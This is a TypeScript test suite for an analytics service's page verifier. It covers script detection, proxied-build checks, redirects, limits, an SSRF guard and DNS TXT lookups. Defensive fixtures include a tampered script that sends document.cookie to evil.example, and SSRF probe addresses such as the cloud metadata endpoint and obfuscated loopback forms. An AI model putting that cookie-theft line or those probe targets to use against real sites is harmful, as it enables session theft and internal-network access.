/**
 * HttpPageChecker against real local HTTP servers: what counts (a proxied /latest.js by its body),
 * limits, redirects, the SSRF guard and DNS TXT.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { LookupAddress } from 'node:dns';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { buildTracker } from '#tracker/build.ts';
import { HttpPageChecker, MAX_PROXIED_SCRIPTS, USER_AGENT } from '#adapters/http-page-checker/http-page-checker.ts';
import type { HttpPageCheckerOptions } from '#adapters/http-page-checker/http-page-checker.ts';
import type { PageCheck } from '#ports/page-checker.ts';

const TOKEN = 'tt_verify_8c1d2e';
const PUBLIC_ORIGINS = ['https://cdn.tinytrack.example'];
const SCRIPT_PAGE = '<html><head><script async src="https://cdn.tinytrack.example/latest.js?v=1"></script></head><body>hi</body></html>';
const TOKEN_PAGE = `<html><head><meta name="tinytrack-verification" content="${TOKEN}"></head><body>hi</body></html>`;
const PLAIN_PAGE = '<html><head><script src="/app.js"></script></head><body>nothing here</body></html>';
const SA_PAGE = '<html><head><script async src="https://scripts.simpleanalyticscdn.com/latest.js"></script></head><body>hi</body></html>';
const COMMENT_PAGE = `<html><head><title>Blog</title></head><body><p>Great post!</p><!-- ${TOKEN} --><p>${TOKEN}</p></body></html>`;
/** What this service serves at /latest.js. */
const TRACKER = (await buildTracker()).code;
const MATHJAX = 'window.MathJax={version:"3.2.2"};(function(){var s=document.createElement("script");s.src="/static/mathjax/tex-chtml.js";document.head.appendChild(s)})();';
const scriptsPage = (...srcs: string[]) => `<html><head>${srcs.map((src) => `<script src="${src}"></script>`).join('')}</head><body>hi</body></html>`;

interface Hit {
  path: string;
  host: string | undefined;
  userAgent: string | undefined;
}

let server: http.Server;
let port: number;
let hits: Hit[] = [];
let bigClosed: Promise<void> = Promise.resolve();

function handle(req: http.IncomingMessage, res: http.ServerResponse) {
  const path = req.url ?? '/';
  hits.push({ path, host: req.headers.host, userAgent: req.headers['user-agent'] });
  const html = (status: number, body: string) => {
    res.writeHead(status, { 'content-type': 'text/html; charset=utf-8' });
    res.end(body);
  };
  const js = (body: string | Buffer, headers: http.OutgoingHttpHeaders = {}) => {
    res.writeHead(200, { 'content-type': 'application/javascript', ...headers });
    res.end(body);
  };
  const redirect = /^\/r(\d+)$/.exec(path);
  if (redirect) {
    const n = Number(redirect[1]);
    if (n === 0) return html(200, SCRIPT_PAGE);
    // Alternate relative and absolute locations and redirect kinds.
    const location = n % 2 ? `/r${n - 1}` : `http://127.0.0.1:${port}/r${n - 1}`;
    res.writeHead(n % 2 ? 302 : 301, { location });
    return res.end();
  }
  switch (path) {
    case '/script':
      return html(200, SCRIPT_PAGE);
    case '/token':
      return html(200, TOKEN_PAGE);
    case '/plain':
      return html(200, PLAIN_PAGE);
    case '/empty':
      res.writeHead(204);
      return res.end();
    case '/error':
      return html(500, SCRIPT_PAGE);
    case '/no-location':
      res.writeHead(302);
      return res.end();
    case '/to-ftp':
      res.writeHead(302, { location: 'ftp://127.0.0.1/latest.js' });
      return res.end();
    case '/sa':
      return html(200, SA_PAGE);
    case '/comment':
      return html(200, COMMENT_PAGE);
    case '/proxied':
      return html(200, '<html><head><script src="/stats/latest.js"></script></head></html>');
    case '/www-proxied':
      return html(200, `<html><head><script src="http://www.site.test:${port}/stats/latest.js"></script></head></html>`);
    case '/stats/latest.js':
      return js(TRACKER);
    case '/mathjax':
      return html(200, scriptsPage('/static/mathjax/latest.js'));
    case '/static/mathjax/latest.js':
      return js(MATHJAX);
    case '/public-and-mathjax':
      return html(200, scriptsPage('https://cdn.tinytrack.example/latest.js', '/static/mathjax/latest.js'));
    case '/mathjax-and-ours':
      return html(200, scriptsPage('/static/mathjax/latest.js', '/stats/latest.js?v=2'));
    case '/stats/latest.js?v=2':
      return js(TRACKER);
    case '/gzip-proxied':
      return html(200, scriptsPage('/gz/latest.js'));
    case '/gz/latest.js':
      // A proxy that compresses although asked for identity, and adds line ends.
      return js(gzipSync(`${TRACKER}\r\n\r\n`), { 'content-encoding': 'gzip' });
    case '/tampered':
      return html(200, scriptsPage('/evil/latest.js'));
    case '/evil/latest.js':
      return js(`${TRACKER.trimEnd()};fetch("https://evil.example/?c="+document.cookie)`);
    case '/script-missing':
      return html(200, scriptsPage('/nowhere/latest.js'));
    case '/script-elsewhere':
      return html(200, scriptsPage('/away/latest.js'));
    case '/away/latest.js':
      res.writeHead(302, { location: `http://other.test:${port}/stats/latest.js` });
      return res.end();
    case '/script-hangs':
      return html(200, scriptsPage('/hang/latest.js'));
    case '/hang/latest.js':
      return;
    case '/many-candidates':
      return html(200, scriptsPage('/a/latest.js', '/b/latest.js', '/c/latest.js', '/stats/latest.js'));
    case '/a/latest.js':
    case '/b/latest.js':
    case '/c/latest.js':
      return js(MATHJAX);
    case '/to-other-host':
      res.writeHead(307, { location: `http://other.test:${port}/token` });
      return res.end();
    case '/to-subdomain':
      res.writeHead(302, { location: `http://cdn.site.test:${port}/token` });
      return res.end();
    case '/to-www':
    case '/to-apex': {
      // Between the apex and its www. form of whatever host was asked.
      const host = (req.headers.host ?? '').replace(/:\d+$/, '');
      const target = path === '/to-www' ? `www.${host}` : host.replace(/^www\./, '');
      res.writeHead(301, { location: `http://${target}:${port}/token` });
      return res.end();
    }
    case '/img':
      res.writeHead(200, { 'content-type': 'image/png' });
      return res.end(Buffer.alloc(1000, 7));
    case '/img-moved':
      res.writeHead(302, { location: `http://other.test:${port}/img` });
      return res.end();
    case '/hang':
      // Never answers: only the checker's deadline ends this.
      return;
    case '/drip':
      // Headers and the start of the body, then silence.
      res.writeHead(200, { 'content-type': 'text/html' });
      res.write('<html><head><script src="/latest.js"></script>');
      return;
    case '/cut':
      // The token only appears past the first 1000 bytes.
      return html(200, `<script src="https://cdn.tinytrack.example/latest.js"></script>${'x'.repeat(2000)}<script data-verification="${TOKEN}"></script>`);
    case '/endless': {
      // Streams forever; the checker must stop reading and hang up.
      res.writeHead(200, { 'content-type': 'text/html' });
      res.write(`<script src="https://cdn.tinytrack.example/latest.js"></script>`);
      const chunk = `<p>${'y'.repeat(16 * 1024)}</p>`;
      bigClosed = new Promise((resolve) => res.on('close', () => resolve()));
      const pump = () => {
        while (!res.destroyed && res.write(chunk));
        if (!res.destroyed) res.once('drain', pump);
      };
      return pump();
    }
    default:
      return html(404, 'not found');
  }
}

beforeAll(async () => {
  server = http.createServer(handle);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

beforeEach(() => {
  hits = [];
});

/** A checker of this service, serving TRACKER at /latest.js. */
const checkerOf = (options: Omit<HttpPageCheckerOptions, 'trackerScript'>) => new HttpPageChecker({ trackerScript: TRACKER, ...options });

/** A checker whose {hostname} is the local server's path, so each case picks its page by name. */
const local = (overrides: Partial<HttpPageCheckerOptions> = {}) => checkerOf({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: true, ...overrides });

/** Checks `hostname` for TOKEN with this service at PUBLIC_ORIGINS. */
const check = (checker: HttpPageChecker, hostname: string, verifyToken = TOKEN) => checker.checkPage({ hostname, verifyToken, publicOrigins: PUBLIC_ORIGINS });

/** A checker that asks for `http://{hostname}:port/<path>`, every name resolving to the local server. */
function byName(path: string) {
  const dns = fakeDns({ 'site.test': ['127.0.0.1'], 'www.site.test': ['127.0.0.1'], 'other.test': ['127.0.0.1'], 'cdn.site.test': ['127.0.0.1'] });
  return { dns, checker: local({ urlTemplate: `http://{hostname}:${port}${path}`, lookup: dns.lookup }) };
}

/** An injectable resolver that records the names it was asked for. */
function fakeDns(table: Record<string, string[]>) {
  const asked: string[] = [];
  const lookup = async (hostname: string): Promise<LookupAddress[]> => {
    asked.push(hostname);
    const addresses = table[hostname];
    if (!addresses) throw Object.assign(new Error(`getaddrinfo ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' });
    return addresses.map((address) => ({ address, family: address.includes(':') ? 6 : 4 }));
  };
  return { asked, lookup };
}

const notFound = (error: string | RegExp, offSite = false): PageCheck =>
  ({ reachable: false, offSite, error: typeof error === 'string' ? error : expect.stringMatching(error) }) as PageCheck;

const seen = (found: Partial<PageCheck & { reachable: true }> = {}): PageCheck => ({
  reachable: true,
  scriptFound: false,
  proxiedScripts: [],
  proxiedMismatch: null,
  tokenFound: false,
  foreignScript: null,
  tokenMisplaced: false,
  iconUrls: expect.any(Array) as unknown as string[],
  ...found,
});

describe('HttpPageChecker pages', () => {
  it('finds the tracking script', async () => {
    expect(await check(local(), 'script')).toEqual(seen({ scriptFound: true }));
    expect(hits).toEqual([{ path: '/script', host: `127.0.0.1:${port}`, userAgent: USER_AGENT }]);
    expect(USER_AGENT).toMatch(/^tinytrack-verifier\/1\.0/);
  });

  it('finds the verify token', async () => {
    expect(await check(local(), 'token')).toEqual(seen({ tokenFound: true }));
  });

  it("reports Simple Analytics' own snippet as a foreign script, not this service's", async () => {
    expect(await check(local(), 'sa')).toEqual(seen({ foreignScript: 'https://scripts.simpleanalyticscdn.com/latest.js' }));
  });

  it('does not count the token in a comment or body text', async () => {
    expect(await check(local(), 'comment')).toEqual(seen({ tokenMisplaced: true }));
  });

  it('counts a tracker proxied on the site that serves this service\'s build: a relative path, or the www twin of the hostname', async () => {
    const stats = `http://127.0.0.1:${port}/stats/latest.js`;
    expect(await check(local(), 'proxied')).toEqual(seen({ scriptFound: true, proxiedScripts: [stats] }));
    expect(hits.map((h) => h.path)).toEqual(['/proxied', '/stats/latest.js']);
    const { checker } = byName('/www-proxied');
    const www = `http://www.site.test:${port}/stats/latest.js`;
    expect(await check(checker, 'site.test')).toEqual(seen({ scriptFound: true, proxiedScripts: [www] }));
    // Not the site: never fetched.
    hits = [];
    expect(await check(checker, 'other.test')).toEqual(seen({ foreignScript: `http://www.site.test:${port}/stats/latest.js` }));
    expect(hits.map((h) => h.path)).toEqual(['/www-proxied']);
  });

  it('does not count a /latest.js on the site that serves another script (MathJax), and says so', async () => {
    const script = `http://127.0.0.1:${port}/static/mathjax/latest.js`;
    expect(await check(local(), 'mathjax')).toEqual(
      seen({ proxiedScripts: [script], proxiedMismatch: { script, why: "it serves another script than this service's latest.js" } }),
    );
    expect(hits).toEqual([
      { path: '/mathjax', host: `127.0.0.1:${port}`, userAgent: USER_AGENT },
      { path: '/static/mathjax/latest.js', host: `127.0.0.1:${port}`, userAgent: USER_AGENT },
    ]);
  });

  it('does not count a copy of the build with anything added', async () => {
    const script = `http://127.0.0.1:${port}/evil/latest.js`;
    expect(await check(local(), 'tampered')).toMatchObject({ scriptFound: false, proxiedMismatch: { script } });
  });

  it('finds this service\'s build among other /latest.js, its query kept', async () => {
    const mathjax = `http://127.0.0.1:${port}/static/mathjax/latest.js`;
    expect(await check(local(), 'mathjax-and-ours')).toEqual(seen({ scriptFound: true, proxiedScripts: [mathjax, `http://127.0.0.1:${port}/stats/latest.js?v=2`] }));
  });

  it('takes the build through a gzip transfer and added line ends', async () => {
    expect(await check(local(), 'gzip-proxied')).toMatchObject({ reachable: true, scriptFound: true, proxiedMismatch: null });
  });

  it('reads the script as it reads the page: its status, redirects only within the site, the same deadline', async () => {
    const at = (path: string) => `http://127.0.0.1:${port}${path}`;
    expect(await check(local(), 'script-missing')).toMatchObject({ reachable: true, scriptFound: false, proxiedMismatch: { script: at('/nowhere/latest.js'), why: 'HTTP 404' } });
    const dns = fakeDns({ 'other.test': ['127.0.0.1'] });
    expect(await check(local({ lookup: dns.lookup }), 'script-elsewhere')).toMatchObject({
      scriptFound: false,
      proxiedMismatch: { script: at('/away/latest.js'), why: expect.stringMatching(/^the script redirects to other\.test:\d+, another site/) },
    });
    expect(dns.asked).toEqual([]);
    const started = Date.now();
    expect(await check(local({ timeoutMs: 400 }), 'script-hangs')).toMatchObject({
      reachable: true,
      scriptFound: false,
      proxiedMismatch: { script: at('/hang/latest.js'), why: 'timed out after 400 ms' },
    });
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it(`reads at most ${MAX_PROXIED_SCRIPTS} candidates a check`, async () => {
    const result = await check(local(), 'many-candidates');
    expect(result).toMatchObject({ scriptFound: false, proxiedMismatch: { script: `http://127.0.0.1:${port}/a/latest.js` } });
    expect(hits.map((h) => h.path)).toEqual(['/many-candidates', '/a/latest.js', '/b/latest.js', '/c/latest.js']);
  });

  it('reads no candidate when the script from a public origin is on the page', async () => {
    expect(await check(local(), 'public-and-mathjax')).toEqual(seen({ scriptFound: true, proxiedScripts: [`http://127.0.0.1:${port}/static/mathjax/latest.js`] }));
    expect(hits.map((h) => h.path)).toEqual(['/public-and-mathjax']);
  });

  it('finds neither on a plain page, and no token when the site has none', async () => {
    expect(await check(local(), 'plain')).toEqual(seen());
    expect(await check(local(), 'token', '')).toEqual(seen());
    expect(await check(local(), 'empty')).toEqual(seen());
  });

  it('reports non-2xx answers as unreachable without scanning them', async () => {
    expect(await check(local(), 'missing')).toEqual(notFound('HTTP 404'));
    expect(await check(local(), 'error')).toEqual(notFound('HTTP 500'));
    expect(await check(local(), 'no-location')).toEqual(notFound('HTTP 302'));
  });

  it('reports a refused connection', async () => {
    const closed = http.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const deadPort = (closed.address() as AddressInfo).port;
    await new Promise((resolve) => closed.close(resolve));
    const checker = checkerOf({ urlTemplate: `http://127.0.0.1:${deadPort}/`, allowPrivateAddresses: true });
    expect(await check(checker, 'x.example')).toEqual(notFound('network error (ECONNREFUSED)'));
  });

  it('refuses hostnames that would change the URL structure', async () => {
    for (const bad of ['', 'a/b', 'evil.example@127.0.0.1', 'a?b', 'a#b', 'a b']) {
      expect(await check(local(), bad), bad).toEqual(notFound('invalid hostname'));
    }
    expect(hits).toEqual([]);
  });
});

describe('HttpPageChecker redirects', () => {
  it('follows a chain of 3 redirects', async () => {
    expect(await check(local(), 'r3')).toEqual(seen({ scriptFound: true }));
    expect(hits.map((h) => h.path)).toEqual(['/r3', '/r2', '/r1', '/r0']);
  });

  it('refuses a 4th redirect without following it', async () => {
    expect(await check(local(), 'r4')).toEqual(notFound('too many redirects'));
    expect(hits.map((h) => h.path)).toEqual(['/r4', '/r3', '/r2', '/r1']);
  });

  it('honours a smaller redirect budget', async () => {
    expect(await check(local({ maxRedirects: 0 }), 'r1')).toEqual(notFound('too many redirects'));
  });

  it('refuses redirects to non-HTTP schemes', async () => {
    expect(await check(local(), 'to-ftp')).toEqual(notFound('unsupported protocol ftp:'));
  });

  it('follows a redirect from the apex to www., resolving each hop again', async () => {
    const { dns, checker } = byName('/to-www');
    expect(await check(checker, 'site.test')).toEqual(seen({ tokenFound: true }));
    expect(dns.asked).toEqual(['site.test', 'www.site.test']);
    expect(hits.map((h) => [h.path, h.host])).toEqual([
      ['/to-www', `site.test:${port}`],
      ['/token', `www.site.test:${port}`],
    ]);
  });

  it('follows a redirect from www. to the apex', async () => {
    const { checker } = byName('/to-apex');
    expect(await check(checker, 'www.site.test')).toEqual(seen({ tokenFound: true }));
    expect(hits.map((h) => h.host)).toEqual([`www.site.test:${port}`, `site.test:${port}`]);
  });

  it.each([
    ['another host', 'to-other-host', 'other.test'],
    ['a subdomain', 'to-subdomain', 'cdn.site.test'],
  ])('refuses a redirect to %s without following it', async (_, page, target) => {
    const dns = fakeDns({ 'other.test': ['127.0.0.1'], 'cdn.site.test': ['127.0.0.1'] });
    expect(await check(local({ lookup: dns.lookup }), page)).toEqual(notFound(new RegExp(`^the page redirects to ${target.replace(/\./g, '\\.')}:${port}, another site`), true));
    expect(dns.asked).toEqual([]);
    expect(hits.map((h) => h.path)).toEqual([`/${page}`]);
  });
});

describe('HttpPageChecker limits', () => {
  it('gives up on a server that never answers', async () => {
    const started = Date.now();
    expect(await check(local({ timeoutMs: 300 }), 'hang')).toEqual(notFound('timed out after 300 ms'));
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('counts the body against the same deadline', async () => {
    const started = Date.now();
    expect(await check(local({ timeoutMs: 300 }), 'drip')).toEqual(notFound('timed out after 300 ms'));
    expect(Date.now() - started).toBeLessThan(2000);
  });

  it('counts DNS against the same deadline', async () => {
    const checker = checkerOf({
      urlTemplate: 'http://{hostname}/',
      allowPrivateAddresses: true,
      timeoutMs: 300,
      lookup: () => new Promise(() => {}),
    });
    expect(await check(checker, 'slow-dns.test')).toEqual(notFound('timed out after 300 ms'));
  });

  it('scans only the first maxBytes of the body', async () => {
    expect(await check(local({ maxBytes: 1000 }), 'cut')).toEqual(seen({ scriptFound: true }));
    expect(await check(local({ maxBytes: 5000 }), 'cut')).toEqual(seen({ scriptFound: true, tokenFound: true }));
  });

  it('stops reading an endless body and hangs up', async () => {
    const result = await check(local({ maxBytes: 256 * 1024, timeoutMs: 3000 }), 'endless');
    expect(result).toEqual(seen({ scriptFound: true }));
    await bigClosed;
  });
});

describe('HttpPageChecker SSRF guard', () => {
  const guarded = (overrides: Partial<HttpPageCheckerOptions> = {}) =>
    checkerOf({ urlTemplate: `http://127.0.0.1:${port}/{hostname}`, allowPrivateAddresses: false, ...overrides });

  it('refuses a loopback IP literal before any request is made', async () => {
    expect(await check(guarded(), 'script')).toEqual(notFound('refused non-public address'));
    expect(hits).toEqual([]);
  });

  it.each([`http://[::ffff:127.0.0.1]:PORT/`, `http://[::1]:PORT/`, 'http://169.254.169.254/latest/meta-data/', 'http://0x7f.1:PORT/', 'http://2130706433:PORT/'])(
    'refuses %s',
    async (template) => {
      const checker = checkerOf({ urlTemplate: template.replace('PORT', String(port)), allowPrivateAddresses: false });
      expect(await check(checker, 'site.example')).toEqual(notFound('refused non-public address'));
      expect(hits).toEqual([]);
    },
  );

  it('refuses a name that resolves to a private address', async () => {
    const dns = fakeDns({ 'site.test': ['127.0.0.1'] });
    const checker = checkerOf({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false, lookup: dns.lookup });
    expect(await check(checker, 'site.test')).toEqual(notFound('refused non-public address'));
    expect(dns.asked).toEqual(['site.test']);
    expect(hits).toEqual([]);
  });

  it('refuses a name when any of its addresses is private', async () => {
    const dns = fakeDns({ 'mixed.test': ['8.8.8.8', '10.0.0.7'] });
    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
    expect(await check(checker, 'mixed.test')).toEqual(notFound('refused non-public address'));
  });

  it('refuses localhost through the system resolver', async () => {
    const checker = checkerOf({ urlTemplate: `http://{hostname}:${port}/script`, allowPrivateAddresses: false });
    expect(await check(checker, 'localhost')).toEqual(notFound('refused non-public address'));
    expect(hits).toEqual([]);
  });

  it('reports DNS failures', async () => {
    const dns = fakeDns({ 'empty.test': [] });
    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false, lookup: dns.lookup });
    expect(await check(checker, 'nowhere.test')).toEqual(notFound('dns lookup failed (ENOTFOUND)'));
    expect(await check(checker, 'empty.test')).toEqual(notFound('dns lookup returned no addresses'));
  });
});

describe('HttpPageChecker DNS TXT records', () => {
  const withTxt = (records: Record<string, string[][]>) =>
    local({
      resolveTxt: async (hostname) => {
        const found = records[hostname];
        if (!found) throw Object.assign(new Error(`queryTxt ENOTFOUND ${hostname}`), { code: 'ENOTFOUND' });
        return found;
      },
    });

  it('finds tinytrack-verification=<token> on the hostname, also split into chunks', async () => {
    const checker = withTxt({ 'a.test': [['v=spf1 -all'], [`tinytrack-verification=${TOKEN}`]], 'b.test': [['tinytrack-verification=', TOKEN]] });
    expect(await checker.hasTxtRecord('a.test', TOKEN)).toBe(true);
    expect(await checker.hasTxtRecord('b.test', TOKEN)).toBe(true);
  });

  it('finds a claim record only under its own prefix', async () => {
    const checker = withTxt({ 'a.test': [[`tinytrack-claim=${TOKEN}`]] });
    expect(await checker.hasTxtRecord('a.test', TOKEN, 'tinytrack-claim=')).toBe(true);
    expect(await checker.hasTxtRecord('a.test', TOKEN)).toBe(false);
    expect(await checker.hasTxtRecord('a.test', '', 'tinytrack-claim=')).toBe(false);
  });

  it('finds nothing for another token, a bare token, an empty token, another name or a failed lookup', async () => {
    const checker = withTxt({ 'a.test': [['tinytrack-verification=tt_verify_other'], [TOKEN]], 'www.c.test': [[`tinytrack-verification=${TOKEN}`]] });
    expect(await checker.hasTxtRecord('a.test', TOKEN)).toBe(false);
    expect(await checker.hasTxtRecord('a.test', '')).toBe(false);
    expect(await checker.hasTxtRecord('c.test', TOKEN)).toBe(false);
  });
});

describe('HttpPageChecker images (site icons)', () => {
  it('gives the whole body when it fits, null when it does not', async () => {
    const image = await local().fetchImage(`http://127.0.0.1:${port}/img`, 1000);
    expect(image?.equals(Buffer.alloc(1000, 7))).toBe(true);
    expect(await local().fetchImage(`http://127.0.0.1:${port}/img`, 999)).toBeNull();
  });

  it('follows a redirect to another host, and gives null for non-2xx, other schemes and no answer', async () => {
    const { checker } = byName('/');
    expect((await checker.fetchImage(`http://site.test:${port}/img-moved`, 2000))?.length).toBe(1000);
    expect(await local().fetchImage(`http://127.0.0.1:${port}/nope`, 2000)).toBeNull();
    expect(await local().fetchImage('ftp://127.0.0.1/x.png', 2000)).toBeNull();
    expect(await local({ timeoutMs: 200 }).fetchImage(`http://127.0.0.1:${port}/hang`, 2000)).toBeNull();
  });

  it('asks through the address guard: a private address gives null before any request', async () => {
    const checker = checkerOf({ urlTemplate: 'https://{hostname}/', allowPrivateAddresses: false });
    expect(await checker.fetchImage(`http://127.0.0.1:${port}/img`, 2000)).toBeNull();
    expect(hits).toEqual([]);
  });
});
